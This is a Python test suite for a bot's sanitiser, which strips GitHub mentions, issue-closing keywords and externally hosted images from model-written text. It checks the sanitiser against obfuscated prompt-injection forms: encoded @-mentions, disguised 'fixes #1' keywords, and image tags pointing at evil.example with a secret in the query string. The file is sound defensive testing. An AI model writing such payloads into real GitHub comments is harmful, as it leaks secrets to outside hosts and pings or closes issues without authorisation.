"""Model text on its way to GitHub: the forms GitHub renders as a mention, a closing
keyword or an image, each written the way a prompt injection would.

GitHub decodes character references (`&#64;` is an `@` on the page), reads a
keyword through its emphasis (`_fixes_ #1` closes #1 from a pull request's
description), and fetches every image a comment shows (through its camo
proxy, with the URL as written: a secret in the query string reaches the
host). What GitHub would act on is
read here from the text as a CommonMark parser shows it (markdown-it decodes
references the same way), so a row fails if GitHub would see a mention, a
closing keyword or an image on another host in `neutralise`'s output.

To add a row, append a `pytest.param` with an `id=` that says what it is.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from bot.worker.untrusted import ZWSP, neutralise

MD = MarkdownIt("commonmark").enable(["table", "strikethrough"])

MENTION = re.compile(r"(?<![A-Za-z0-9])@[A-Za-z0-9]")
CLOSING = re.compile(
    r"(?i)(?<![A-Za-z0-9])(close[sd]?|fix(e[sd])?|resolve[sd]?):?\s+(#\d|gh-\d|[\w.-]+/[\w.-]+#\d)"
)
BREAKS = ("softbreak", "hardbreak")
# github.com itself (not its subdomains: user.github.com redirects to a Pages
# site, which may redirect anywhere) and the hosts of files GitHub holds.
GITHUB_HOSTS = re.compile(r"github\.com|[a-z0-9-]+\.githubusercontent\.com")


def _walk(tokens: list[Token]) -> Iterator[Token]:
    for token in tokens:
        yield token
        if token.children:
            yield from _walk(token.children)


def shown_text(markdown: str) -> list[str]:
    """Each paragraph's text as GitHub shows it: references decoded, emphasis gone, no code."""
    shown = []
    for token in _walk(MD.parse(markdown)):
        if token.type == "inline" and token.children is not None:
            shown.append(
                "".join(
                    "\n" if child.type in BREAKS else child.content
                    for child in token.children
                    if child.type in ("text", *BREAKS, "html_inline", "image")
                )
            )
    return shown


def text_runs(markdown: str) -> list[str]:
    """The page's text nodes: text between two pieces of markup. GitHub looks for
    mentions in each (`@` then a link or emphasis pings nobody)."""
    runs = []
    for token in _walk(MD.parse(markdown)):
        if token.type == "inline" and token.children is not None:
            run = ""
            for child in token.children:
                if child.type in ("text", *BREAKS):
                    run += child.content if child.type == "text" else "\n"
                else:
                    runs.append(run)
                    run = child.content if child.type == "html_inline" else ""
            runs.append(run)
    return runs


def images(markdown: str) -> list[str]:
    return [
        str(token.attrs.get("src", ""))
        for token in _walk(MD.parse(markdown))
        if token.type == "image"
    ]


def foreign(src: str) -> bool:
    """Whether an image's source is fetched from a host other than GitHub's own."""
    parts = urlsplit(src)
    if not parts.scheme and not parts.netloc:
        return False  # relative: the repository's own file, on GitHub
    return parts.scheme not in ("http", "https") or not GITHUB_HOSTS.fullmatch(parts.hostname or "")


def acted_on(markdown: str) -> list[str]:
    """What GitHub would act on in `markdown`: mentions, closing keywords, foreign images."""
    found = []
    for run in text_runs(markdown):
        found += [f"mention {m[0]!r}" for m in MENTION.finditer(run)]
    for text in shown_text(markdown):
        # A closing keyword is read through emphasis: across the markup.
        found += [f"closes {m[0]!r}" for m in CLOSING.finditer(text)]
    found += [f"image {src}" for src in images(markdown) if foreign(src)]
    return found


MENTIONS = [
    pytest.param("Thanks &#64;alice!", id="decimal reference"),
    pytest.param("Thanks &#x40;alice!", id="hex reference"),
    pytest.param("Thanks &#X40;alice!", id="hex reference, capital X"),
    pytest.param("Thanks &#0000064;alice!", id="leading zeros"),
    pytest.param("Thanks &commat;alice!", id="named reference"),
    pytest.param("Thanks @&#97;lice!", id="a reference after the @"),
    pytest.param("Thanks &#64;&#97;&#108;ice!", id="references throughout"),
    pytest.param("cc (&#64;octo/core)", id="a team"),
    pytest.param("* **&#64;alice** look", id="in emphasis in a list"),
    pytest.param("| who |\n| --- |\n| &#64;alice |", id="in a table"),
    pytest.param("> &#64;alice said so", id="in a quote"),
]

# Each with what a reader sees once it is neutralised: the reference named as an issue.
CLOSINGS = [
    pytest.param("This _fixes_ #1.", "This fixes issue #1.", id="underscore emphasis"),
    pytest.param("This *fixes* #1.", "This fixes issue #1.", id="star emphasis"),
    pytest.param("__Closes__ #2", "Closes issue #2", id="strong underscores"),
    pytest.param(
        "**Resolves:** octo/other#3", "Resolves: issue octo/other#3", id="strong with a colon"
    ),
    pytest.param("fixes _#1_", "fixes issue #1", id="the reference emphasised"),
    pytest.param("***fixes*** **#4**", "fixes issue #4", id="both emphasised"),
    pytest.param("~~fixes~~ #5", "fixes issue #5", id="struck through"),
    pytest.param("&#102;ixes #6", "fixes issue #6", id="a reference in the keyword"),
    pytest.param("fixes &#35;7", "fixes issue #7", id="a reference for the hash"),
    pytest.param("Fixes&#58; #7", "Fixes: issue #7", id="a reference for the colon"),
    pytest.param("Closes&nbsp;#8", "Closes\xa0issue #8", id="a no-break space"),
    pytest.param("Fixes&#32;GH-9", "Fixes issue GH-9", id="a space as a reference"),
    pytest.param("Fixes\\: #10", "Fixes: issue #10", id="an escaped colon"),
    pytest.param("fixes\\\n#11", "fixes\nissue #11", id="a hard line break"),
]

IMAGES = [
    pytest.param("![chart](https://evil.example/p.png?d=SECRET)", id="inline image"),
    pytest.param('![chart](http://evil.example/p.png "title")', id="with a title"),
    pytest.param("![chart](<https://evil.example/a b.png>)", id="angle brackets"),
    pytest.param("![chart](//evil.example/p.png)", id="scheme-relative"),
    pytest.param("![chart][r]\n\n[r]: https://evil.example/p.png", id="full reference"),
    pytest.param("![r][]\n\n[r]: https://evil.example/p.png", id="collapsed reference"),
    pytest.param("![r]\n\n[r]: https://evil.example/p.png", id="shortcut reference"),
    pytest.param("[![x](https://evil.example/p.png)](https://github.com)", id="inside a link"),
    pytest.param("![x](https://github.com.evil.example/p.png)", id="a lookalike host"),
    pytest.param("![x](https://evil.example/github.com/p.png)", id="github.com in the path"),
    pytest.param("![x](https://evil.example.github.com/p.png)", id="a github.com subdomain"),
    pytest.param("![x](https://evil.example&quest;@github.com/p.png)", id="a reference in the URL"),
    pytest.param("- ![x](https://evil.example/p.png)", id="in a list"),
    pytest.param('<img src="https://evil.example/p.png">', id="html image"),
    pytest.param('<picture><source srcset="https://evil.example/p.png"></picture>', id="picture"),
]


@pytest.mark.parametrize("text", MENTIONS)
def test_no_mention_github_would_render_survives(text: str) -> None:
    assert acted_on(text), "the row must be one GitHub acts on"
    out = neutralise(text)
    assert acted_on(out) == [], out
    # It reads the same: the ping is broken by an invisible character.
    assert [t.replace(ZWSP, "") for t in shown_text(out)] == shown_text(text)


@pytest.mark.parametrize(("text", "shown"), CLOSINGS)
def test_no_closing_keyword_github_would_read_survives(text: str, shown: str) -> None:
    assert acted_on(text), "the row must be one GitHub acts on"
    out = neutralise(text)
    assert acted_on(out) == [], out
    assert shown_text(out) == [shown]


@pytest.mark.parametrize("text", IMAGES)
def test_no_image_on_another_host_survives(text: str) -> None:
    assert acted_on(text) or "<" in text, "the row must be one GitHub acts on"
    out = neutralise(text)
    assert acted_on(out) == [], out
    assert images(out) == []
    assert "<img" not in out
    # The address stays readable: a reader sees where it pointed.
    assert "evil.example" in out


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("![d](https://github.com/user-attachments/assets/5e1a)", id="attachment"),
        pytest.param("![d](https://raw.githubusercontent.com/o/r/main/a.png)", id="raw"),
        pytest.param(
            "![d](https://private-user-images.githubusercontent.com/1/a.png)", id="private"
        ),
        pytest.param("![d](docs/diagram.png)", id="the repository's own file"),
    ],
)
def test_images_on_githubs_own_hosts_stay(text: str) -> None:
    assert neutralise(text) == text


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("mail dev&#64;example.com", id="an address"),
        pytest.param("Fish &amp; chips &lt;3", id="other references"),
        pytest.param("&amp;#64;alice", id="an escaped reference"),
        pytest.param("prefixes #1 and suffixes #2", id="keywords inside words"),
        pytest.param("[the docs](https://evil.example/docs)", id="a link"),
        pytest.param("Wow! [x](https://github.com)", id="an exclamation before a link"),
    ],
)
def test_what_github_does_not_act_on_is_left_alone(text: str) -> None:
    assert acted_on(text) == []
    out = neutralise(text)
    assert shown_text(out) == shown_text(text)
    assert acted_on(out) == []


def test_fenced_code_stays_byte_for_byte() -> None:
    code = "```\n&#64;alice _fixes_ #1 ![x](https://evil.example/p.png)\n```\n"
    assert neutralise(code) == code


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("&#45; a\n  ```\n@alice\n```\n", id="a list item"),
        pytest.param("&#49;. a\n   ```\n@alice\n```\n", id="an ordered list item"),
    ],
)
def test_a_reference_decoded_into_a_block_does_not_let_code_out(text: str) -> None:
    # Written `- a`, the list item holds the fence, which then ends before
    # `@alice`: the lines are read again once references are decoded.
    out = neutralise(text)
    assert acted_on(out) == [], out
    assert neutralise(out) == out


def test_it_is_idempotent() -> None:
    text = "\n\n".join(str(p.values[0]) for p in [*MENTIONS, *CLOSINGS, *IMAGES])
    once = neutralise(text)
    assert neutralise(once) == once
    assert acted_on(once) == []


PIECES = [
    "@",
    "&#64;",
    "&commat;",
    "alice",
    "&#97;",
    "octo/core",
    "fixes",
    "Closes",
    "&#102;ix",
    "es",
    "#1",
    "&#35;",
    "2",
    "gh-3",
    "o/r#4",
    "_",
    "*",
    "**",
    "~~",
    ":",
    " ",
    "&nbsp;",
    "\n",
    "\n\n",
    "> ",
    "- ",
    "`",
    "```\n",
    "!",
    "[",
    "]",
    "(",
    ")",
    "<",
    ">",
    "https://evil.example/p.png",
    "https://github.com/a.png",
    "[r]: https://evil.example/p.png\n",
    "&amp;",
    "x",
]


@settings(max_examples=250, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=40))
def test_whatever_the_model_writes_github_acts_on_none_of_it(pieces: list[str]) -> None:
    text = "".join(pieces)
    out = neutralise(text)
    assert acted_on(out) == [], (text, out)
    assert neutralise(out) == out
